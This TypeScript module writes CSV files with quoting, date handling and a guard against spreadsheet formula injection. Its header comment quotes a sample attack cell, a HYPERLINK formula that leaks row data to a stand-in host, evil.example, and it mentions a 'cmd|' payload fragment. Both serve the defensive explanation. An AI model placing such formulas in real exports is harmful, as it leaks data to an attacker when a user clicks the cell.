// Every CSV Keepr writes goes through here: the exports (worker/tasks/
// run_export.ts, streamed) and the simulated provider's settlement report
// (payments/simulated/service.ts, in one piece). One set of options, so the
// quoting, the dates and the defence against formula injection are the same
// everywhere.
//
// Formula injection (OWASP "CSV Injection"): a spreadsheet opening the file
// runs a cell that starts with =, +, -, @, a tab or a carriage return as a
// formula, so a guest named =HYPERLINK("http://evil.example/?leak="&A1,"x")
// would leak the row to whoever clicks. Such a string cell gets a leading
// single quote, which spreadsheets read as "this is text" (Apple Numbers
// also treats the full-width ＝ ＋ － ＠ as formula signs: those too).
//
// Numbers stay numbers: a number or bigint cell is never touched, and
// neither is a string that is only a decimal number, such as "-12.50" or
// "-5000" (node-postgres returns bigint and numeric columns, Keepr's money,
// as strings): a spreadsheet reads those as negative numbers, not formulas.
// "-1+1", "-2-cmd|..." and anything else that is not just a number is
// neutralised.
import { stringify, type Options, type Stringifier } from "csv-stringify";
import { stringify as stringifySync } from "csv-stringify/sync";

/** The characters that make a spreadsheet cell a formula (ASCII and full-width). */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A plain decimal number, negative or not: what Postgres prints for integers, bigint and numeric. */
const plainNumber = /^-?\d+(?:\.\d+)?$/;

/** A string cell as it is written: with a leading ' when a spreadsheet would take it for a formula. */
export function neutraliseCell(value: string): string {
  return formulaStart.test(value) && !plainNumber.test(value) ? `'${value}` : value;
}

export interface CsvOptions {
  /** The columns, in order (default: the keys of the first record). */
  columns?: string[];
}

function csvOptions(options: CsvOptions): Options {
  return {
    header: true,
    ...(options.columns ? { columns: options.columns } : {}),
    cast: {
      string: (value) => neutraliseCell(value),
      // Instants as ISO 8601 UTC; calendar dates are selected as text.
      date: (value) => value.toISOString(),
      boolean: (value) => (value ? "true" : "false"),
    },
  };
}

/** A CSV stream (with a header line) of the objects written to it. */
export function csvStream(options: CsvOptions = {}): Stringifier {
  return stringify(csvOptions(options));
}

/** A CSV document (with a header line) of the records, in one string. */
export function csvDocument(records: readonly object[], options: CsvOptions = {}): string {
  return stringifySync(records as object[], csvOptions(options));
}
